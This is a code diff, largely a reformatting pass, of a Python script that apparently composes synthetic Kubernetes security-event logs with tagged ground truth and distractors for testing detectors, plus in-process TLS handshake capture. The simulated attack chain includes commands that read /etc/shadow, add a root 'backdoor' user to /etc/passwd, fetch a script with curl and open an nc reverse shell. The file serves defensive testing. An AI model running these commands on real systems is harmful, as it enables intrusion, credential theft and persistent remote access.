-                              (T0 + 140 * SEC + 883 * MS, tiefighter, deathstars[0], 1),
-                              (T0 + 400 * SEC + 127 * MS, xwing, deathstars[0], 2)):
+    for t, pod, target, n in (
+        (T0 + 125 * SEC + 411 * MS, xwing, deathstars[1], 1),
+        (T0 + 140 * SEC + 883 * MS, tiefighter, deathstars[0], 1),
+        (T0 + 400 * SEC + 127 * MS, xwing, deathstars[0], 2),
+    ):
         key = f"curl/{pod.name}/{n}"
         t_curl = s.kubectl_exec(t, key, ships[pod.name], "/usr/bin/curl", landing, tty=False, cpid_gap=9)
         s.at(t_curl + j(28, 36) * MS, s.connect, key, target.ip, 80)
@@ -579,29 +873,55 @@ def compose(handshakes: list[dict]) -> Scenario:
         s.file_access(t, "node/crawler", "/etc/hosts", "-rw-r--r--", 4, tid=node_tid_pool)
         s.file_access(t + j(150, 400) * US, "node/crawler", "/etc/resolv.conf", "-rw-r--r--", 4, tid=node_tid_pool)
 
-    conns = ((T0 + 32 * SEC + 611 * MS, "198.51.100.24", 21, "jobs.example.com"),
-             (T0 + 161 * SEC + 207 * MS, "203.0.113.80", 22, "careers.example.org"),
-             (T0 + 258 * SEC + 733 * MS, "198.51.100.143", 23, "search.example.net"),
-             (T0 + 413 * SEC + 305 * MS, "192.0.2.77", 24, "legacy-feed.example.org"))
+    conns = (
+        (T0 + 32 * SEC + 611 * MS, "198.51.100.24", 21, "jobs.example.com"),
+        (T0 + 161 * SEC + 207 * MS, "203.0.113.80", 22, "careers.example.org"),
+        (T0 + 258 * SEC + 733 * MS, "198.51.100.143", 23, "search.example.net"),
+        (T0 + 413 * SEC + 305 * MS, "192.0.2.77", 24, "legacy-feed.example.org"),
+    )
     for i, (t, ip, fd, sni) in enumerate(conns):
         if i == 0:
             s.at(t - 9 * MS, dns)
         s.tls_connection(t, "node/crawler", ip, fd, sni)
     # the crawler saves its state under /tmp (distractor: a write outside /etc)
-    s.at(T0 + 165 * SEC + 904 * MS, s.file_access, "node/crawler", "/tmp/crawler-state.json", "-rw-r--r--", 2,
-         tag="distractor:tmp-write")
+    s.at(
+        T0 + 165 * SEC + 904 * MS,
+        s.file_access,
+        "node/crawler",
+        "/tmp/crawler-state.json",
+        "-rw-r--r--",
+        2,
+        tag="distractor:tmp-write",
+    )
 
     # ---------------------------------------------------------------- 09:09:12 kubectl exec -it crawler -- /bin/bash
     t = T0 + 552 * SEC + 271 * MS
-    t_bash = s.kubectl_exec(t, "bash/crawler", c_crawl, "/bin/bash", "", tty=True, cpid_gap=23,
-                            tag="late-shell:kubectl-exec-bash")
+    t_bash = s.kubectl_exec(
+        t, "bash/crawler", c_crawl, "/bin/bash", "", tty=True, cpid_gap=23, tag="late-shell:kubectl-exec-bash"
+    )
     # interactive bash: NSS reads /etc/passwd for the prompt, then /etc/bash.bashrc
-    s.at(t_bash + j(4, 6) * MS, s.file_access, "bash/crawler", "/etc/passwd", "-rw-r--r--", 4,
-         tag="distractor:passwd-read")
+    s.at(
+        t_bash + j(4, 6) * MS,
+        s.file_access,
+        "bash/crawler",
+        "/etc/passwd",
+        "-rw-r--r--",
+        4,
+        tag="distractor:passwd-read",
+    )
     s.at(t_bash + j(9, 12) * MS, s.file_access, "bash/crawler", "/etc/bash.bashrc", "-rw-r--r--", 4)
 
-    def command(t: int, key: str, binary: str, args: str, reads: list[tuple[str, str, int]], status: int = 0,
-                parent: str = "bash/crawler", tag: str | None = None, read_tag: str | None = None) -> int:
+    def command(
+        t: int,
+        key: str,
+        binary: str,
+        args: str,
+        reads: list[tuple[str, str, int]],
+        status: int = 0,
+        parent: str = "bash/crawler",
+        tag: str | None = None,
+        read_tag: str | None = None,
+    ) -> int:
         s.at(t, s.exec, key, parent, binary, args, tag=tag)
         tt = t + j(700, 1300) * US
         for i, (path, perm, n) in enumerate(reads):
@@ -613,23 +933,39 @@ def compose(handshakes: list[dict]) -> Scenario:
         return tt
 
     t = T0 + 560 * SEC + 114 * MS
-    command(t, "id/crawler", "/usr/bin/id", "", [("/etc/passwd", "-rw-r--r--", 1), ("/etc/group", "-rw-r--r--", 1)],
-            read_tag="distractor:passwd-read")
+    command(
+        t,
+        "id/crawler",
+        "/usr/bin/id",
+        "",
+        [("/etc/passwd", "-rw-r--r--", 1), ("/etc/group", "-rw-r--r--", 1)],
+        read_tag="distractor:passwd-read",
+    )
     t = T0 + 571 * SEC + 502 * MS
-    command(t, "cat-passwd/crawler", "/usr/bin/cat", "/etc/passwd", [("/etc/passwd", "-rw-r--r--", 2)],
-            read_tag="distractor:passwd-read")
+    command(
+        t,
+        "cat-passwd/crawler",
+        "/usr/bin/cat",
+        "/etc/passwd",
+        [("/etc/passwd", "-rw-r--r--", 2)],
+        read_tag="distractor:passwd-read",
+    )
     # echo 'backdoor:x:0:0::/root:/bin/bash' >> /etc/passwd   (a bash builtin: bash itself writes)
-    s.at(T0 + 598 * SEC + 207 * MS, s.file_access, "bash/crawler", "/etc/passwd", "-rw-r--r--", 2,
-         tag="passwd-write")
+    s.at(T0 + 598 * SEC + 207 * MS, s.file_access, "bash/crawler", "/etc/passwd", "-rw-r--r--", 2, tag="passwd-write")
     t = T0 + 609 * SEC + 655 * MS
-    command(t, "cat-shadow/crawler", "/usr/bin/cat", "/etc/shadow", [("/etc/shadow", "-rw-r-----", 2)],
-            read_tag="distractor:shadow-read")
+    command(
+        t,
+        "cat-shadow/crawler",
+        "/usr/bin/cat",
+        "/etc/shadow",
+        [("/etc/shadow", "-rw-r-----", 2)],
+        read_tag="distractor:shadow-read",
+    )
     # curl -sk https://dl.example.net/k.sh -o /tmp/.k
     t = T0 + 641 * SEC + 19 * MS
     s.at(t, s.exec, "curl/crawler", "bash/crawler", "/usr/bin/curl", "-sk https://dl.example.net/k.sh -o /tmp/.k")
     s.at(t + j(29, 35) * MS, s.connect, "curl/crawler", "198.51.100.201", 443)
-    s.at(t + j(205, 215) * MS, s.file_access, "curl/crawler", "/tmp/.k", "-rw-r--r--", 2,
-         tag="distractor:tmp-write")
+    s.at(t + j(205, 215) * MS, s.file_access, "curl/crawler", "/tmp/.k", "-rw-r--r--", 2, tag="distractor:tmp-write")
     s.at(t + j(218, 225) * MS, s.exit, "curl/crawler")
     # nc 203.0.113.7 4444 -e /bin/sh: nc (ncat) connects, then forks /bin/sh with the socket as its stdio
     t = T0 + 687 * SEC + 880 * MS
@@ -638,8 +974,15 @@ def compose(handshakes: list[dict]) -> Scenario:
     t_sh = t + j(46, 52) * MS
     s.at(t_sh, s.exec, "sh/nc", "nc/crawler", "/bin/sh", "", tag="late-shell:reverse-shell-sh")
     command(t_sh + 4 * SEC + j(100, 900) * MS, "uname/nc", "/usr/bin/uname", "-a", [], parent="sh/nc")
-    command(t_sh + 9 * SEC + j(100, 900) * MS, "whoami/nc", "/usr/bin/whoami", "", [("/etc/passwd", "-rw-r--r--", 1)],
-            parent="sh/nc", read_tag="distractor:passwd-read")
+    command(
+        t_sh + 9 * SEC + j(100, 900) * MS,
+        "whoami/nc",
+        "/usr/bin/whoami",
+        "",
+        [("/etc/passwd", "-rw-r--r--", 1)],
+        parent="sh/nc",
+        read_tag="distractor:passwd-read",
+    )
     t_end = t_sh + 31 * SEC + j(0, 999) * MS
     s.at(t_end, s.exit, "sh/nc")
     s.at(t_end + j(2, 4) * MS, s.exit, "nc/crawler")
@@ -652,23 +995,47 @@ def compose(handshakes: list[dict]) -> Scenario:
 # --------------------------------------------------------------------------- TLS handshakes (regeneration)
 
 # node's default TLS 1.2 cipher list (TLS 1.3 suites are OpenSSL's defaults, in node's order too)
-NODE_CIPHERS = ("ECDHE-RSA-AES128-GCM-SHA256:ECDHE-ECDSA-AES128-GCM-SHA256:ECDHE-RSA-AES256-GCM-SHA384:"
-                "ECDHE-ECDSA-AES256-GCM-SHA384:DHE-RSA-AES128-GCM-SHA256:ECDHE-RSA-AES128-SHA256:"
-                "DHE-RSA-AES128-SHA256:ECDHE-RSA-AES256-SHA384:DHE-RSA-AES256-SHA384:ECDHE-RSA-AES256-SHA256:"
-                "DHE-RSA-AES256-SHA256:HIGH:!aNULL:!eNULL:!EXPORT:!DES:!RC4:!MD5:!PSK:!SRP:!CAMELLIA")
+NODE_CIPHERS = (
+    "ECDHE-RSA-AES128-GCM-SHA256:ECDHE-ECDSA-AES128-GCM-SHA256:ECDHE-RSA-AES256-GCM-SHA384:"
+    "ECDHE-ECDSA-AES256-GCM-SHA384:DHE-RSA-AES128-GCM-SHA256:ECDHE-RSA-AES128-SHA256:"
+    "DHE-RSA-AES128-SHA256:ECDHE-RSA-AES256-SHA384:DHE-RSA-AES256-SHA384:ECDHE-RSA-AES256-SHA256:"
+    "DHE-RSA-AES256-SHA256:HIGH:!aNULL:!eNULL:!EXPORT:!DES:!RC4:!MD5:!PSK:!SRP:!CAMELLIA"
+)
 
 # what each server of the story accepts, and what the handshake must end with
 SERVERS = [
-    {"sni": "jobs.example.com", "max_version": "TLSv1_3", "suites": None, "ciphers": None,
-     "expect": ("TLSv1.3", "TLS_AES_256_GCM_SHA384"), "weak": None},
-    {"sni": "careers.example.org", "max_version": "TLSv1_3",
-     "suites": "TLS_CHACHA20_POLY1305_SHA256:TLS_AES_256_GCM_SHA384:TLS_AES_128_GCM_SHA256", "ciphers": None,
-     "expect": ("TLSv1.3", "TLS_CHACHA20_POLY1305_SHA256"), "weak": None},
-    {"sni": "search.example.net", "max_version": "TLSv1_2", "suites": None, "ciphers": "ECDHE-RSA-AES128-GCM-SHA256",
-     "expect": ("TLSv1.2", "ECDHE-RSA-AES128-GCM-SHA256"), "weak": None},
-    {"sni": "legacy-feed.example.org", "max_version": "TLSv1_2", "suites": None, "ciphers": "AES128-SHA",
-     "expect": ("TLSv1.2", "AES128-SHA"),
-     "weak": "RSA key exchange (no forward secrecy); CBC mode with HMAC-SHA1"},
+    {
+        "sni": "jobs.example.com",
+        "max_version": "TLSv1_3",
+        "suites": None,
+        "ciphers": None,
+        "expect": ("TLSv1.3", "TLS_AES_256_GCM_SHA384"),
+        "weak": None,
+    },
+    {
+        "sni": "careers.example.org",
+        "max_version": "TLSv1_3",
+        "suites": "TLS_CHACHA20_POLY1305_SHA256:TLS_AES_256_GCM_SHA384:TLS_AES_128_GCM_SHA256",
+        "ciphers": None,
+        "expect": ("TLSv1.3", "TLS_CHACHA20_POLY1305_SHA256"),
+        "weak": None,
+    },
+    {
+        "sni": "search.example.net",
+        "max_version": "TLSv1_2",
+        "suites": None,
+        "ciphers": "ECDHE-RSA-AES128-GCM-SHA256",
+        "expect": ("TLSv1.2", "ECDHE-RSA-AES128-GCM-SHA256"),
+        "weak": None,
+    },
+    {
+        "sni": "legacy-feed.example.org",
+        "max_version": "TLSv1_2",
+        "suites": None,
+        "ciphers": "AES128-SHA",
+        "expect": ("TLSv1.2", "AES128-SHA"),
+        "weak": "RSA key exchange (no forward secrecy); CBC mode with HMAC-SHA1",
+    },
 ]
 
 # Fallback when the cryptography package is missing: a throw-away self-signed RSA-2048 certificate made for
@@ -741,20 +1108,28 @@ def make_cert(directory: Path) -> tuple[Path, Path, str]:
     k = rsa.generate_private_key(public_exponent=65537, key_size=2048)
     name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "tetrapipe scenario test server (throw-away)")])
     start = dt.datetime(2026, 3, 1, tzinfo=UTC)
-    c = (x509.CertificateBuilder().subject_name(name).issuer_name(name).public_key(k.public_key())
-         .serial_number(x509.random_serial_number()).not_valid_before(start)
-         .not_valid_after(start + dt.timedelta(days=365))
-         .add_extension(x509.SubjectAlternativeName([x509.DNSName(srv["sni"]) for srv in SERVERS]), critical=False)
-         .sign(k, hashes.SHA256()))
+    c = (
+        x509.CertificateBuilder()
+        .subject_name(name)
+        .issuer_name(name)
+        .public_key(k.public_key())
+        .serial_number(x509.random_serial_number())
+        .not_valid_before(start)
+        .not_valid_after(start + dt.timedelta(days=365))
+        .add_extension(x509.SubjectAlternativeName([x509.DNSName(srv["sni"]) for srv in SERVERS]), critical=False)
+        .sign(k, hashes.SHA256())
+    )
     cert.write_bytes(c.public_bytes(serialization.Encoding.PEM))
-    key.write_bytes(k.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8,
-                                    serialization.NoEncryption()))
+    key.write_bytes(
+        k.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption())
+    )
     return cert, key, "self-signed RSA-2048 certificate generated with the cryptography package"
 
 
 def set_tls13_suites(ctx: ssl.SSLContext, suites: str) -> None:
     """The ssl module cannot choose TLS 1.3 suites: call OpenSSL's SSL_CTX_set_ciphersuites on the context."""
     import ctypes
+
     libs = sorted(set(re.findall(r"(/\S*libssl\.so[.\d]*)", Path("/proc/self/maps").read_text())))
     if not libs:
         raise RuntimeError("libssl is not mapped in this process: cannot set TLS 1.3 suites")
@@ -795,33 +1170,39 @@ def capture_one(srv: dict, cert: Path, key: Path) -> dict:
     s_ = server.wrap_bio(s_in, s_out, server_side=True)
 
     pump(c)
-    client_hello = c_out.read()              # 1. client -> server: ClientHello
+    client_hello = c_out.read()  # 1. client -> server: ClientHello
     s_in.write(client_hello)
     pump(s_)
-    server_hello = s_out.read()              # 2. server -> client: ServerHello ... (first flight)
+    server_hello = s_out.read()  # 2. server -> client: ServerHello ... (first flight)
     c_in.write(server_hello)
     done = pump(c)
-    client_flight2 = c_out.read()            # 3. client -> server: (ClientKeyExchange,) ChangeCipherSpec, Finished
+    client_flight2 = c_out.read()  # 3. client -> server: (ClientKeyExchange,) ChangeCipherSpec, Finished
     s_in.write(client_flight2)
     if not pump(s_):
         raise RuntimeError("server handshake did not finish")
-    server_flight2 = s_out.read()            # 4. TLS 1.2: NewSessionTicket, CCS, Finished; TLS 1.3: tickets
+    server_flight2 = s_out.read()  # 4. TLS 1.2: NewSessionTicket, CCS, Finished; TLS 1.3: tickets
     if not done:
         c_in.write(server_flight2)
         if not pump(c):
             raise RuntimeError("client handshake did not finish")
-    request = (f"GET /api/v1/postings?page=1 HTTP/1.1\r\nHost: {srv['sni']}\r\n"
-               "User-Agent: tenant-jobs-crawler/1.4\r\nAccept: application/json\r\nConnection: close\r\n\r\n").encode()
+    request = (
+        f"GET /api/v1/postings?page=1 HTTP/1.1\r\nHost: {srv['sni']}\r\n"
+        "User-Agent: tenant-jobs-crawler/1.4\r\nAccept: application/json\r\nConnection: close\r\n\r\n"
+    ).encode()
     c.write(request)
-    client_request = c_out.read()            # 5. application data
+    client_request = c_out.read()  # 5. application data
     s_in.write(client_request)
     assert s_.read(4096) == request
     body = b'{"postings":[],"next":null}'
-    response = (b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: " + str(len(body)).encode()
-                + b"\r\nConnection: close\r\n\r\n" + body)
+    response = (
+        b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: "
+        + str(len(body)).encode()
+        + b"\r\nConnection: close\r\n\r\n"
+        + body
+    )
     s_.write(response)
-    server_response = s_out.read()           # 6. application data
-    if done:                                  # TLS 1.3: the client has not seen the tickets yet
+    server_response = s_out.read()  # 6. application data
+    if done:  # TLS 1.3: the client has not seen the tickets yet
         c_in.write(server_flight2)
     c_in.write(server_response)
     assert c.read(4096) == response
@@ -833,15 +1214,27 @@ def capture_one(srv: dict, cert: Path, key: Path) -> dict:
     # the ServerHello names the same suite: record(5) type(1) len(3) version(2) random(32) session id
     sid_len = server_hello[5 + 4 + 2 + 32]
     at = 5 + 4 + 2 + 32 + 1 + sid_len
-    if int.from_bytes(server_hello[at:at + 2], "big") != code:
+    if int.from_bytes(server_hello[at : at + 2], "big") != code:
         raise RuntimeError(f"{srv['sni']}: the ServerHello does not carry suite {code:#06x}")
-    out = {"sni": srv["sni"], "negotiated_version": version, "negotiated_cipher": cipher, "cipher_code": code,
-           "weak": srv["weak"] is not None}
+    out = {
+        "sni": srv["sni"],
+        "negotiated_version": version,
+        "negotiated_cipher": cipher,
+        "cipher_code": code,
+        "weak": srv["weak"] is not None,
+    }
     if srv["weak"]:
         out["weak_reason"] = srv["weak"]
-    out.update({"client_hello_b64": b64(client_hello), "server_hello_b64": b64(server_hello),
-                "client_flight2_b64": b64(client_flight2), "server_flight2_b64": b64(server_flight2),
-                "client_request_b64": b64(client_request), "server_response_b64": b64(server_response)})
+    out.update(
+        {
+            "client_hello_b64": b64(client_hello),
+            "server_hello_b64": b64(server_hello),
+            "client_flight2_b64": b64(client_flight2),
+            "server_flight2_b64": b64(server_flight2),
+            "client_request_b64": b64(client_request),
+            "server_response_b64": b64(server_response),
+        }
+    )
     return out
 
 
@@ -849,19 +1242,26 @@ def regenerate_handshakes() -> None:
     with tempfile.TemporaryDirectory() as tmp:
         cert, key, how = make_cert(Path(tmp))
         conns = [capture_one(srv, cert, key) for srv in SERVERS]
-    doc = {"about": ("Real TLS flights between a Python ssl client (node's default cipher list) and a Python ssl "
-                     "server, over in-memory BIOs, in-process; made by compose.py --regenerate-handshakes. "
-                     "negotiated_version / negotiated_cipher: what the ssl module reported on both ends; "
-                     "cipher_code: the IANA suite number (also checked in the ServerHello). Flights, in socket "
-                     "order: client_hello, server_hello (the server's whole first flight), client_flight2, "
-                     "server_flight2 (TLS 1.2: ticket, ChangeCipherSpec, Finished; TLS 1.3: session tickets), "
-                     "client_request, server_response (encrypted HTTP)."),
-           "openssl": ssl.OPENSSL_VERSION, "python": sys.version.split()[0], "certificate": how,
-           "connections": conns}
+    doc = {
+        "about": (
+            "Real TLS flights between a Python ssl client (node's default cipher list) and a Python ssl "
+            "server, over in-memory BIOs, in-process; made by compose.py --regenerate-handshakes. "
+            "negotiated_version / negotiated_cipher: what the ssl module reported on both ends; "
+            "cipher_code: the IANA suite number (also checked in the ServerHello). Flights, in socket "
+            "order: client_hello, server_hello (the server's whole first flight), client_flight2, "
+            "server_flight2 (TLS 1.2: ticket, ChangeCipherSpec, Finished; TLS 1.3: session tickets), "
+            "client_request, server_response (encrypted HTTP)."
+        ),
+        "openssl": ssl.OPENSSL_VERSION,
+        "python": sys.version.split()[0],
+        "certificate": how,
+        "connections": conns,
+    }
     HANDSHAKES.write_text(json.dumps(doc, indent=1) + "\n")
 
 
 # --------------------------------------------------------------------------- main
+
 
 def write_log(s: Scenario) -> list[tuple[int, dict, str | None]]:
     ordered = sorted(s.events, key=lambda e: (e[0], e[1]))
@@ -883,8 +1283,11 @@ def summary(rows: list[tuple[int, dict, str | None]]) -> None:
 
 def main() -> None:
     ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
-    ap.add_argument("--regenerate-handshakes", action="store_true",
-                    help="capture new TLS handshakes into handshakes.json first (new random bytes)")
+    ap.add_argument(
+        "--regenerate-handshakes",
+        action="store_true",
+        help="capture new TLS handshakes into handshakes.json first (new random bytes)",
+    )
     ap.add_argument("--summary", action="store_true", help="print event kinds and the tagged ground-truth lines")
     opts = ap.parse_args()
     if opts.regenerate_handshakes:
